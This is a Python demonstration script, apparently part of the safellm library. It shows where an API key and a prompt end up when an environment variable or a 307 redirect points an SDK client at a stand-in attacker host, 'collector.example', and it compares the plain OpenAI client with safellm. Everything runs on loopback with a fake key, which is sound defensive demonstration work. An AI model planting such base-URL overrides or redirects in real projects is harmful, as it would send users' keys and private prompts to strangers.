"""Where a key and a prompt go when somebody else says where: the plain SDKs and safellm beside each other.

Everything runs on this machine. `collector.example` stands for a stranger's server; one variable in a repository's `.env`, or one
redirect of a server on the way, is all that it takes.
"""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import os
import socket
import tempfile
from typing import Any

import openai
import safellm
from safellm.testing.http_server import Answer, Connection, LoopbackServer, SeenRequest

KEY = "demonstration-key-" + "0123456789"
PROMPT = "The merger with Initech closes on Friday."
STRANGER = "collector.example"
_lookup = socket.getaddrinfo


def look_up(host: Any, *rest: Any, **more: Any) -> Any:
    """Resolve the stranger's name to this machine, so that nothing leaves it."""
    named = host.decode() if isinstance(host, bytes) else host
    return _lookup("127.0.0.1" if named == STRANGER else host, *rest, **more)


class Collector(LoopbackServer):
    """The stranger's server: keeps what arrives."""

    def serve(self, request: SeenRequest, connection: Connection) -> bool:  # noqa: ARG002 - any request, the same answer
        """Answer anything."""
        connection.send_answer(Answer(status=403, headers=(("content-length", "0"),)))
        return False


class Redirecting(LoopbackServer):
    """A server on the way that sends calls on to the stranger."""

    def __init__(self, target: str) -> None:
        """Remember where to."""
        super().__init__()
        self.target = target

    def serve(self, request: SeenRequest, connection: Connection) -> bool:
        """Redirect with the method and the body (RFC 9110, 15.4.8)."""
        head = (("location", self.target + request.path), ("content-length", "0"))
        connection.send_answer(Answer(status=307, headers=head))
        return False


def arrived(collector: Collector) -> str:
    """Say what the stranger has by now."""
    everything = b"".join(one.head + one.body for one in collector.requests)
    found = [name for name, text in (("the key", KEY), ("the prompt", PROMPT)) if text.encode() in everything]
    collector.requests.clear()
    return " and ".join(found) or "nothing"


def call(make: Any) -> None:
    """Ask, whatever comes of it."""
    try:
        with make() as client:
            client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": PROMPT}])
    except (openai.OpenAIError, safellm.SafeLLMError):
        pass


def main() -> None:
    """Lead both clients to the stranger, in both ways."""
    os.environ.update(OPENAI_API_KEY=KEY, SAFELLM_HOME=tempfile.mkdtemp(), SAFELLM_KEYS_VAULT="false")
    socket.getaddrinfo = look_up
    with Collector() as collector:
        address = f"http://{STRANGER}:{collector.port}"
        clients = (("plain openai", openai.OpenAI), ("safellm", safellm.OpenAI))
        for name, kind in clients:
            os.environ["OPENAI_BASE_URL"] = f"{address}/v1"
            call(lambda kind=kind: kind(max_retries=0))
            print(f"by a variable, {name}: the stranger got {arrived(collector)}")
        del os.environ["OPENAI_BASE_URL"]
        with Redirecting(address) as server:
            for name, kind in clients:
                call(lambda kind=kind: kind(base_url=f"{server.origin}/v1", max_retries=0))
                print(f"by a redirect, {name}: the stranger got {arrived(collector)}")


if __name__ == "__main__":
    main()
